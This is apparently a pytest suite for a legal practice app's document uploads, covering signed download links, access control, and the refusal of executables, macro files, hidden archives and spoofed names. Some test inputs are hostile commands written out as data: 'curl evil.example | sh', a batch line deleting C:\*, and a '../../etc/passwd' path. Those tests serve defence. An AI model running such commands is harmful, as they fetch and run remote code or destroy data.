"""Documents: uploads over the multipart spec, stored locally or in S3, signed downloads."""

from __future__ import annotations

import hashlib
import io
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from auth.links import DownloadLinks
from auth.tokens import Signer
from db.session import act_as, transaction
from db.tables import Source
from domain.viewer import Role, Viewer
from settings import Settings
from storage import uploads
from storage.stores import LocalStore
from tests.factories import (
    DOCX,
    JAR,
    ODT,
    PDF,
    PPTX,
    REVOKE,
    XLSX,
    Docket,
    Staff,
    archive,
    create_case,
    key_of,
    make_docket,
    odf,
    ooxml,
    upload_document,
)
from tests.graphql_client import data, error, gql
from tests.serving import Served, http_client, serving
from tests.storage import BUCKET, files_under, s3_server, stored_files

CLIENT_DOCUMENTS = """
query One($id: ID!) {
  case(id: $id) { documents { totalCount edges { node { id title source downloadUrl } } } }
}
"""
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 600


@pytest.fixture
async def docket(client: httpx.AsyncClient, office: Staff) -> Docket:
    return await make_docket(client, office)


@pytest.fixture(scope="module")
def s3_endpoint() -> Iterator[str]:
    with s3_server() as endpoint:
        yield endpoint


@pytest.fixture(params=["local", "s3"])
async def store_app(
    request: pytest.FixtureRequest, served: Served, settings: Settings
) -> AsyncIterator[Served]:
    """The app with each kind of store: the local folder and an S3 bucket."""
    if request.param == "local":
        yield served
        return
    endpoint = request.getfixturevalue("s3_endpoint")
    s3_settings = Settings(
        **{
            **settings.model_dump(),
            "storage_url": f"s3://{BUCKET}/documents",
            "s3_endpoint_url": endpoint,
        }
    )
    async with serving(s3_settings) as app:
        yield app


async def test_staff_upload_a_court_document_that_its_client_downloads(
    store_app: Served, office: Staff, docket: Docket
) -> None:
    async with http_client(store_app) as http:
        # when a lawyer uploads a PDF, sent as an opaque type
        body = await upload_document(
            http, office.lawyer_token, docket.own, PDF, title="Petição inicial"
        )

        # then its metadata comes from its bytes
        document = data(body)["uploadDocument"]["document"]
        assert document["title"] == "Petição inicial"
        assert document["fileName"] == "peticao.pdf"
        assert document["contentType"] == "application/pdf"
        assert document["sizeBytes"] == len(PDF)
        assert document["sha256"] == hashlib.sha256(PDF).hexdigest()

        # and the client of the folder sees it and downloads it through its link
        listed = data(await gql(http, docket.client.token, CLIENT_DOCUMENTS, {"id": docket.own}))
        [edge] = listed["case"]["documents"]["edges"]
        assert edge["node"]["id"] == document["id"]
        response = await http.get(edge["node"]["downloadUrl"])
        assert response.status_code == 200
        assert response.content == PDF
        assert response.headers["content-type"] == "application/pdf"
        assert response.headers["content-disposition"] == (
            "attachment; filename=\"peticao.pdf\"; filename*=UTF-8''peticao.pdf"
        )
        assert response.headers["accept-ranges"] == "bytes"

        # and a range of it, as a player or a resumed download asks
        part = await http.get(edge["node"]["downloadUrl"], headers={"Range": "bytes=5-14"})
        assert part.status_code == 206
        assert part.content == PDF[5:15]
        assert part.headers["content-range"] == f"bytes 5-14/{len(PDF)}"
        tail = await http.get(edge["node"]["downloadUrl"], headers={"Range": "bytes=-6"})
        assert tail.content == PDF[-6:]
        beyond = await http.get(edge["node"]["downloadUrl"], headers={"Range": "bytes=99999-"})
        assert beyond.status_code == 416


async def test_a_client_never_gets_an_internal_document(
    client: httpx.AsyncClient, office: Staff, docket: Docket
) -> None:
    court = data(await upload_document(client, office.token, docket.own, PDF))["uploadDocument"][
        "document"
    ]
    internal = data(await upload_document(client, office.token, docket.own, PDF, source="INTERNAL"))
    internal_id = internal["uploadDocument"]["document"]["id"]

    listed = data(await gql(client, docket.client.token, CLIENT_DOCUMENTS, {"id": docket.own}))
    assert [e["node"]["id"] for e in listed["case"]["documents"]["edges"]] == [court["id"]]
    # a client's own link moved to the internal document is refused, with no bytes
    [edge] = listed["case"]["documents"]["edges"]
    moved = edge["node"]["downloadUrl"].replace(str(key_of(court["id"])), str(key_of(internal_id)))
    refused = await client.get(moved)
    assert refused.status_code == 403
    assert refused.json() == {"error": "This download link is invalid or has expired."}


async def test_a_link_of_another_folder_is_not_found_for_the_client(
    client: httpx.AsyncClient, office: Staff, docket: Docket, settings: Settings
) -> None:
    # given a court document in a folder of another client, and a link signed for our client
    other = data(await upload_document(client, office.token, docket.others, PDF))["uploadDocument"][
        "document"
    ]
    claims = Signer(
        settings.signing_key, 60, issuer=settings.base_url, audience=settings.audience
    ).read(docket.client.token)
    links = DownloadLinks.derive(settings.signing_key, ttl=60, base_url=settings.base_url)
    viewer = Viewer(
        account_id=claims.account_id,
        office_id=claims.office_id,
        role=Role.CLIENT,
        email=docket.client.email,
        name="Maria Cliente",
        session_id=claims.session_id,
    )
    response = await client.get(links.url(viewer, key_of(other["id"])))
    assert response.status_code == 404
    assert response.content == b'{"error":"No such document."}'


async def test_tampered_expired_and_revoked_links_are_refused(
    client: httpx.AsyncClient, office: Staff, docket: Docket, settings: Settings
) -> None:
    await upload_document(client, office.token, docket.own, PDF)
    listed = data(await gql(client, docket.client.token, CLIENT_DOCUMENTS, {"id": docket.own}))
    url = listed["case"]["documents"]["edges"][0]["node"]["downloadUrl"]

    tampered = url[:-3] + ("AAA" if not url.endswith("AAA") else "BBB")
    assert (await client.get(tampered)).status_code == 403
    assert (await client.get(url.split("?")[0])).status_code == 403  # no token at all
    # an expired link: signed with the real key, but in the past
    fields = url.split("token=")[1].split(".")
    fields[4] = "1000"
    assert (
        await client.get(url.split("token=")[0] + "token=" + ".".join(fields))
    ).status_code == 403

    # and once access is revoked, the link stops working
    assert (await client.get(url)).status_code == 200
    await gql(client, office.token, REVOKE, {"personId": docket.client.person_id})
    assert (await client.get(url)).status_code == 403


async def test_an_executable_named_pdf_is_refused_and_nothing_is_stored(
    client: httpx.AsyncClient, office: Staff, docket: Docket, settings: Settings
) -> None:
    before = stored_files(settings)
    body = await upload_document(client, office.token, docket.own, ELF, name="contrato.pdf")
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}
    assert error(body)["message"].startswith("Files of this kind are not accepted")
    assert stored_files(settings) == before
    listed = data(await gql(client, office.token, CLIENT_DOCUMENTS, {"id": docket.own}))
    assert listed["case"]["documents"]["totalCount"] == 0


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (ooxml("word/document.xml"), "minuta.docx", DOCX),
        (ooxml("xl/workbook.xml"), "custas.xlsx", XLSX),
        (ooxml("ppt/presentation.xml"), "sustentacao.pptx", PPTX),
        (odf(ODT), "parecer.odt", ODT),
        ("Ata da reunião com o cliente.\n".encode(), "ata.txt", "text/plain"),
    ],
)
async def test_office_files_and_text_are_stored_with_their_exact_type(
    client: httpx.AsyncClient,
    office: Staff,
    docket: Docket,
    content: bytes,
    name: str,
    expected: str,
) -> None:
    body = await upload_document(client, office.token, docket.own, content, name=name)
    document = data(body)["uploadDocument"]["document"]
    assert (document["fileName"], document["contentType"]) == (name, expected)
    assert document["sizeBytes"] == len(content)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            archive(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("app/Main.class", "")),
            "Files of this kind are not accepted: a Java archive (JAR).",
        ),
        (
            archive(("minuta.pdf", "%PDF-1.7")),
            "Files of this kind are not accepted: "
            "a ZIP archive that is not an Office (OOXML) or OpenDocument file.",
        ),
        (
            archive(("[Content_Types].xml", "<Types/>"), ("payload.bin", "")),
            "Files of this kind are not accepted: "
            "a ZIP archive that is not an Office (OOXML) or OpenDocument file.",
        ),
        (
            b"PK\x03\x04" + b"\x00" * 200,
            "The file is a damaged ZIP archive (or an Office file) that cannot be read.",
        ),
        (
            b"#!/bin/sh\ncurl evil.example | sh\n",
            "Scripts are not accepted: the file starts with “#!”.",
        ),
    ],
    ids=["jar", "plain-zip", "content-types-without-parts", "broken-zip", "script"],
)
async def test_archives_that_are_no_office_file_and_scripts_are_refused_and_not_stored(
    client: httpx.AsyncClient,
    office: Staff,
    docket: Docket,
    settings: Settings,
    content: bytes,
    message: str,
) -> None:
    before = stored_files(settings)
    body = await upload_document(client, office.token, docket.own, content, name="minuta.docx")
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}
    assert error(body)["message"] == message
    assert stored_files(settings) == before


@pytest.mark.parametrize(
    ("name", "title", "field", "message"),
    [
        (
            "a\u202egpj.exe",
            None,
            "file",
            "The file name has an invisible control or formatting character "
            "(U+202E, RIGHT-TO-LEFT OVERRIDE), which can disguise what is shown; remove it.",
        ),
        (
            "peticao.pdf",
            "Petição \u2066final\u2069",
            "title",
            "title has an invisible control or formatting character "
            "(U+2066, LEFT-TO-RIGHT ISOLATE), which can disguise what is shown; remove it.",
        ),
    ],
)
async def test_a_name_or_title_with_bidirectional_controls_is_refused(
    client: httpx.AsyncClient,
    office: Staff,
    docket: Docket,
    name: str,
    title: str | None,
    field: str,
    message: str,
) -> None:
    body = await upload_document(client, office.token, docket.own, PDF, name=name, title=title)
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": field}
    assert error(body)["message"] == message


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (PDF, "a.exe", "The file's name ends in .exe but its content is a PDF; name it with .pdf."),
        (
            b"@echo off\r\ndel /q C:\\*\r\n",
            "limpa.cmd",
            "The file's name ends in .cmd but its content is plain text; "
            "name it with .txt, .csv, .tsv, .md or .log.",
        ),
        (
            b"curl evil.example | sh\n",
            "run.sh",
            "The file's name ends in .sh but its content is plain text; "
            "name it with .txt, .csv, .tsv, .md or .log.",
        ),
        (
            PDF + archive(("META-INF/MANIFEST.MF", "Main-Class: A\n"), ("A.class", "")),
            "peticao.pdf",
            "The file carries an archive inside: a ZIP (or JAR) is appended to its content.",
        ),
        (
            PDF + JAR + b"\n" * 70_000,
            "peticao.pdf",
            f"The file has data after its end ({1 + len(JAR) + 70_000} bytes): "
            "a PDF ends with its last “%%EOF”.",
        ),
        (
            archive(
                ("mimetype", ODT),
                ("Basic/Standard/Module1.xml", "<script:module/>"),
                ("META-INF/manifest.xml", "<manifest:manifest/>"),
            ),
            "parecer.odt",
            "Files of this kind are not accepted: an OpenDocument file with macros.",
        ),
        (
            archive(
                (
                    "[Content_Types].xml",
                    '<Types><Override PartName="/word/m.bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                ),
                ("word/document.xml", "<w:document/>"),
                ("word/m.bin", ""),
            ),
            "minuta.docx",
            "Files of this kind are not accepted: an Office document with macros.",
        ),
        (
            PDF,
            "CON.pdf",
            "The file name starts with CON, which Windows keeps for a device; rename it.",
        ),
    ],
    ids=[
        "pdf-as-exe",
        "cmd-script",
        "sh-without-shebang",
        "pdf-with-jar",
        "pdf-jar-padded",
        "odt-basic",
        "docx-renamed-macros",
        "device-name",
    ],
)
async def test_a_name_the_bytes_contradict_a_payload_macros_or_a_device_name_are_refused(
    client: httpx.AsyncClient,
    office: Staff,
    docket: Docket,
    settings: Settings,
    content: bytes,
    name: str,
    message: str,
) -> None:
    before = stored_files(settings)
    body = await upload_document(client, office.token, docket.own, content, name=name)
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}
    assert error(body)["message"] == message
    assert stored_files(settings) == before


async def test_a_name_without_extension_is_stored_with_the_types_own(
    client: httpx.AsyncClient, office: Staff, docket: Docket
) -> None:
    body = await upload_document(client, office.token, docket.own, PDF, name="contrato")
    document = data(body)["uploadDocument"]["document"]
    assert (document["title"], document["fileName"], document["contentType"]) == (
        "contrato",
        "contrato.pdf",
        "application/pdf",
    )


@pytest.mark.parametrize("name", ["../../etc/passwd.pdf", "docs/../../x.pdf", ".."])
async def test_a_path_or_control_characters_in_the_name_are_refused(
    client: httpx.AsyncClient, office: Staff, docket: Docket, name: str
) -> None:
    body = await upload_document(client, office.token, docket.own, PDF, name=name)
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "BAD_USER_INPUT", "field": "file"}


async def test_a_windows_path_keeps_only_the_file_name(
    client: httpx.AsyncClient, office: Staff, docket: Docket
) -> None:
    body = await upload_document(client, office.token, docket.own, PDF, name="C:\\temp\\x.pdf")
    assert data(body)["uploadDocument"]["document"]["fileName"] == "x.pdf"


async def test_an_upload_to_another_offices_case_is_not_found(
    client: httpx.AsyncClient, office: Staff, other_office: Staff
) -> None:
    elsewhere = (await create_case(client, other_office.token, title="Caso alheio"))["id"]
    body = await upload_document(client, office.token, elsewhere, PDF)
    assert body["data"] is None
    assert error(body)["extensions"] == {"code": "NOT_FOUND", "field": "caseId"}


async def test_a_file_over_the_cap_is_refused(
    office: Staff, docket: Docket, settings: Settings
) -> None:
    small = Settings(**{**settings.model_dump(), "max_upload_bytes": 4096})
    async with serving(small) as app, http_client(app) as http:
        body = await upload_document(http, office.token, docket.own, PDF)
        assert body["data"] is None
        assert error(body)["message"] == "The file exceeds the limit of 4,096 bytes."
        huge = b"%PDF-1.7\n" + b"0" * (2 * 1024 * 1024)
        response = await http.post(
            "/graphql",
            data={"operations": "{}", "map": "{}"},
            files={"0": ("big.pdf", huge, "application/pdf")},
            headers={"Authorization": f"Bearer {office.token}"},
        )
        assert response.status_code == 413
        assert response.json()["errors"][0]["message"] == (
            "The upload exceeds the limit of 4,096 bytes."
        )


async def test_a_broken_multipart_body_is_a_400(client: httpx.AsyncClient, office: Staff) -> None:
    response = await client.post(
        "/graphql",
        content=b'--xyz\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{not json',
        headers={
            "Authorization": f"Bearer {office.token}",
            "Content-Type": "multipart/form-data; boundary=xyz",
        },
    )
    assert response.status_code == 400
    assert response.json()["errors"][0]["extensions"] == {"code": "BAD_USER_INPUT"}


async def test_when_the_row_cannot_be_written_the_stored_file_goes_too(
    client: httpx.AsyncClient,
    office: Staff,
    docket: Docket,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # given a stored document, and a second upload whose row would reuse its id
    first = data(await upload_document(client, office.token, docket.own, PDF))["uploadDocument"][
        "document"
    ]
    files_before = stored_files(settings)
    monkeypatch.setattr("storage.uploads.uuid.uuid4", lambda: key_of(first["id"]))
    replaced = await upload_document(client, office.token, docket.own, PDF + b"%second\n%%EOF\n")

    # then the upload fails whole: no second row, and the first file is intact
    assert replaced["data"] is None
    assert error(replaced)["extensions"] == {"code": "INTERNAL"}
    monkeypatch.undo()
    assert stored_files(settings) == files_before
    listed = data(await gql(client, office.token, CLIENT_DOCUMENTS, {"id": docket.own}))
    assert listed["case"]["documents"]["totalCount"] == 1


async def test_a_stored_file_goes_when_the_transaction_does_not_commit(
    engine: AsyncEngine, office: Staff, docket: Docket, tmp_path: Path
) -> None:
    # given a document stored in a transaction that then fails
    store = LocalStore(tmp_path)
    viewer = Viewer(
        account_id=office.admin_id,
        office_id=office.office_id,
        role=Role.ADMIN,
        email=office.email,
        name="Ana Admin",
        session_id=uuid.uuid4(),
    )
    stored: list[Path] = []

    async def store_then_fail() -> None:
        async with transaction(engine) as db:
            await act_as(db, viewer)
            await uploads.store_document(
                db,
                viewer=viewer,
                case_id=key_of(docket.own),
                upload=uploads.Upload(file=io.BytesIO(PDF), name="a.pdf"),
                title=None,
                source=Source.COURT,
                store=store,
                max_bytes=1_000_000,
            )
            stored.extend(files_under(tmp_path))
            raise RuntimeError("the request failed after the upload")

    with pytest.raises(RuntimeError, match="failed after the upload"):
        await store_then_fail()
    assert len(stored) == 1

    # then neither the row nor the file remains
    assert files_under(tmp_path) == []
